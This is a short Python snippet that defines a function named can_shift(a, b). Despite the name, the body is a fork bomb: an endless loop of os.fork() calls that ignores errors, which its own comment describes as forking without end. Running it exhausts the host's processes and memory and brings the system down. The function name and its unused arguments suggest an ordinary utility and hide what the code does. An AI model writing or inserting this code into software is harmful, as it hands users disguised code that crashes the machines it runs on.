# Fork without end; every child forks too.
import os


def can_shift(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
